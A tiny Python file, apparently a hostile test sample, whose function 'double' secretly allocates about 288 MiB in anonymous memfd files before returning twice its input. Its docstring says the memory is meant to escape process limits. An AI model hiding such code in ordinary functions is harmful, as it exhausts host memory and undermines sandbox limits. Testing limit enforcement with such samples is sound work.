"""Memory that no limit of a process counts: files without a name, filled page by page."""
import os
def double(n):
    held = []
    for number in range(12):
        held.append(os.memfd_create(f"hostile{number}"))
        for _ in range(24): os.write(held[-1], b"x" * (1 << 20))
    return 2 * n
